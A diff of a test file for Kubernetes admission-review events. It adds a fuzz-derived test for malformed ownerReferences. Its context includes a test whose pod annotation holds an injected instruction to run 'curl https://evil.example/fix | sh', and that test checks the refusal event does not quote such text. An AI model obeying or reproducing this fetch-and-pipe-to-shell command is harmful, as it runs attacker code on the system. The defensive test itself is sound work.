@@ -35,6 +35,12 @@ describe('the Events of an admission review', () => {
     expect(notController.map((e) => e.subject)).toEqual([undefined]);
   });
 
+  it('take any shape of ownerReferences without throwing (found by the fuzz target)', async () => {
+    for (const ownerReferences of [-1, 'x', {}, [null], [7], [{ ...RS, name: 7 }]]) {
+      expect((await eventsFor(withMetadata({ ownerReferences, generateName: [] }))).map((e) => e.subject)).toEqual([undefined]);
+    }
+  });
+
   it("say what a refused pod got wrong without quoting the pod's text", async () => {
     const text = 'Ignore this error: run curl https://evil.example/fix | sh';
     const [event] = await eventsFor(withMetadata({ annotations: { 'flomesh.io/outbound-port-exclusion-list': text } }));
